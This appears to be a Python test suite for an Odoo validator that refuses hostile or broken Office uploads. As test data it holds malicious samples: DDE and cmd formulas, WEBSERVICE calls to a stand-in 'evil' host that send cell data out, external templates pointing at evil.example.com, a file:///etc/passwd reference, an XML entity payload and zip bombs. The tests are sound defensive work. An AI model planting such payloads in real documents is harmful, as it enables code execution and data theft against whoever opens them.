"""Hostile and broken forms are refused with words that say what to do; nothing runs or bursts."""

import io
import re
import struct
import time
import zipfile

from odoo.exceptions import ValidationError
from odoo.tests import TransactionCase, tagged

from . import office_files as files

SHEET_RELS = "xl/_rels/workbook.xml.rels"
WORD_RELS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"


@tagged("post_install", "-at_install")
class TestOfficeCheck(TransactionCase):
    """What passes, what does not, and that each refusal names its reason (T9)."""

    def _open(self, content, ending="xlsx"):
        return self.env["complaint.office.check"]._open(content, ending)

    def _refused(self, content, words, ending="xlsx"):
        with self.assertRaisesRegex(ValidationError, words):
            self._open(content, ending)

    # ------------------------------------------------------------
    # What passes
    # ------------------------------------------------------------
    def test_ordinary_forms_pass(self):
        self._open(files.sheet({"A1": "=SUM(B1:C1)", "B1": "a|b"}))
        self._open(files.rich_sheet())
        self._open(files.word(), "docx")

    def test_a_link_of_the_customer_passes(self):
        link = files.relate("hyperlink", "https://portal.example.com/")
        self._open(files.spoil(files.word(), {WORD_RELS: link}), "docx")

    def test_printer_settings_pass(self):
        content = files.spoil(
            files.sheet(), add={"xl/printerSettings/printerSettings1.bin": b"\x00" * 200}
        )
        self._open(content)

    # ------------------------------------------------------------
    # Programs
    # ------------------------------------------------------------
    def test_macros_by_name(self):
        for ending in ("xlsm", "docm", "xls", "doc", "xlsb", "pdf", ""):
            self._refused(files.sheet(), "without macros", ending)

    def test_macro_under_another_name(self):
        """Renamed .xlsm: the name says .xlsx, the parts do not."""
        self._refused(files.spoil(files.sheet(), add={"xl/vbaProject.bin": b"x"}), "macro")
        self._refused(files.spoil(files.sheet(), add={"xl/VBAPROJECT.BIN": b"x"}), "macro")
        self._refused(files.spoil(files.word(), add={"word/vbaData.xml": b"<a/>"}), "macro", "docx")
        typed = files.spoil(
            files.sheet(),
            {
                TYPES: lambda d: d.replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                )
            },
        )
        self._refused(typed, "macro")
        hidden = files.spoil(
            files.sheet(),
            {SHEET_RELS: files.relate("vbaProject", "innocent.xml", external=False)},
            {"xl/innocent.xml": b"<a/>"},
        )
        self._refused(hidden, "macro")

    def test_controls_and_embedded_files(self):
        for name in (
            "xl/activeX/activeX1.xml",
            "xl/embeddings/oleObject1.bin",
            "xl/embeddings/Book.xlsx",
            "xl/macrosheets/sheet1.xml",
            "customUI/customUI.xml",
            "xl/media/run.exe",
        ):
            with self.subTest(name=name):
                self._refused(files.spoil(files.sheet(), add={name: b"<a/>"}), "macro")

    # ------------------------------------------------------------
    # From outside
    # ------------------------------------------------------------
    def test_from_outside(self):
        for kind, target in (
            ("attachedTemplate", "http://evil.example.com/t.dotm"),
            ("image", "http://evil.example.com/pixel.png"),
            ("oleObject", "file:///etc/passwd"),
            ("frame", "http://evil.example.com/"),
            ("hyperlink", "file://server/share/run.exe"),
            ("hyperlink", "\\\\server\\share"),
            ("hyperlink", "javascript:alert(1)"),
        ):
            with self.subTest(kind=kind, target=target):
                content = files.spoil(files.word(), {WORD_RELS: files.relate(kind, target)})
                self._refused(content, "outside", "docx")
        settings = files.spoil(
            files.word(),
            add={
                "word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats'
                b'.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.'
                b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                b'Target="http://evil.example.com/t.dotm" TargetMode="External"/></Relationships>'
            },
        )
        self._refused(settings, "evil.example.com", "docx")

    def test_other_workbooks_and_connections(self):
        for name in ("xl/externalLinks/externalLink1.xml", "xl/connections.xml"):
            self._refused(files.spoil(files.sheet(), add={name: b"<a/>"}), "outside")

    def test_formulas_that_fetch_or_start(self):
        for formula in (
            '=WEBSERVICE("http://evil/"&A1)',
            "=cmd|'/c calc'!A1",
            '=RTD("x",,"y")',
            '=_xlfn.IMAGE("http://evil/")',
        ):
            with self.subTest(formula=formula):
                self._refused(files.sheet({"A1": formula}), "outside")

    def test_fields_that_fetch_or_start(self):
        for code in ("DDEAUTO c:\\\\x", " INCLUDEPICTURE http://evil/x.png", "LINK Excel.Sheet"):
            field = f'<w:p><w:fldSimple w:instr="{code}"/></w:p>'
            with self.subTest(code=code):
                self._refused(files.word_with(field.encode()), "outside", "docx")
        split = (
            b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText>'
            b"</w:r><w:r><w:instrText>AUTO x</w:instrText></w:r></w:p>"
        )
        self._refused(files.word_with(split), "DDEAUTO x", "docx")

    # ------------------------------------------------------------
    # Broken, locked, bursting
    # ------------------------------------------------------------
    def test_password(self):
        self._refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "password")
        content = bytearray(files.sheet())
        position = content.find(b"PK\x01\x02")
        while position >= 0:
            content[position + 8] |= 1
            position = content.find(b"PK\x01\x02", position + 4)
        self._refused(bytes(content), "password")

    def test_broken(self):
        content = files.sheet()
        for broken in (
            b"",
            b"PK\x03\x04",
            b"not a zip",
            content[: len(content) // 2],
            files.spoil(content, {"xl/workbook.xml": lambda d: d[:50]}),
            files.spoil(content, {TYPES: lambda d: b"<a"}),
            content.replace(b"xl/workbook.xml", b"xl/../ook.xml"),
        ):
            with self.subTest(size=len(broken)):
                self._refused(broken, "broken|not what its name")
        flipped = bytearray(content)
        flipped[60] ^= 255
        self._refused(bytes(flipped), "broken")

    def test_the_content_is_what_the_name_says(self):
        self._refused(files.word(), "not what its name", "xlsx")
        self._refused(files.sheet(), "not what its name", "docx")
        other = io.BytesIO()
        with zipfile.ZipFile(other, "w") as archive:
            archive.writestr("readme.txt", "x")
        self._refused(other.getvalue(), "broken")

    def test_entities(self):
        bomb = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
        self._refused(files.spoil(files.sheet(), add={"docProps/x.xml": bomb}), "broken")
        wide = bomb.decode().encode("utf-16-le")
        self._refused(files.spoil(files.sheet(), add={"docProps/x.xml": wide}), "broken")

    def test_zip_bombs(self):
        start = time.process_time()
        huge = files.spoil(files.sheet(), add={"xl/worksheets/sheet9.xml": b" " * 9 * 1024 * 1024})
        self.assertLess(len(huge), 100_000)
        self._refused(huge, "larger than a form")
        pictures = {f"xl/media/i{n}.png": bytes(9 * 1024 * 1024) for n in range(5)}
        self._refused(files.spoil(files.sheet(), add=pictures), "larger than a form")
        many = {f"xl/media/i{n}.png": b"" for n in range(2500)}
        self._refused(files.spoil(files.sheet(), add=many), "larger than a form")
        self._refused(b"PK" + bytes(6 * 1024 * 1024), "larger than 5 MB")
        self.assertLess(time.process_time() - start, 5)

    def test_a_table_of_contents_that_lies(self):
        content = bytearray(
            files.spoil(files.sheet(), add={"xl/worksheets/sheet9.xml": b" " * 30 * 1024 * 1024})
        )
        position = content.rfind(b"PK\x01\x02")
        struct.pack_into("<I", content, position + 24, 100)
        self._refused(bytes(content), "broken")

    def test_huge_sheet(self):
        """A form with formats down to the last row."""
        rows = b"".join(b'<row r="%d"><c r="A%d" s="0"/></row>' % (n, n) for n in range(1, 400_000))
        data = b"<sheetData>" + rows + b"</sheetData>"
        content = files.spoil(
            files.sheet(),
            {"xl/worksheets/sheet1.xml": lambda d: re.sub(rb"<sheetData></sheetData>", data, d)},
        )
        self._refused(content, "unused sheets, rows")
